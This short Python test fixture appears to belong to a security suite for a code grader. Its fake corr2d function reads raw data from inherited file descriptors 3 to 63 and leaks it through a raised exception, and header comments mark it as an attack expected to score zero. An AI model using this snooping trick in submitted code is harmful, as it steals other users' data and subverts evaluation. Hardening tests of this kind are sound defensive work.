# attack: reads the requests that lie on the wire already
# exercises: corr2d
# outcome: score<=0
import os, socket, torch
seen = []
def corr2d(X, K):
    for number in range(3, 64):
        try:
            data = os.read(number, 1 << 16)
        except OSError:
            continue
        if data:
            seen.append(data)
    raise ValueError(seen)
